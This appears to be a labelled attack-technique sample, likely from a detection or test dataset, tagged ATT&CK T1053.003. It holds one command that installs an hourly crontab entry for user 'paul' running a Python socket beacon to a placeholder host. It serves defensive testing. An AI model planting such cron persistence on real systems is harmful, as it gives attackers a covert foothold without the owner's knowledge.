# technique: T1053.003
# location: linux.cron.user
# source: /var/spool/cron/crontabs/paul
su paul -c "echo '12 * * * * python3 -c \"import socket;s=socket.socket();s.connect((chr(49),9))\"' | crontab -"
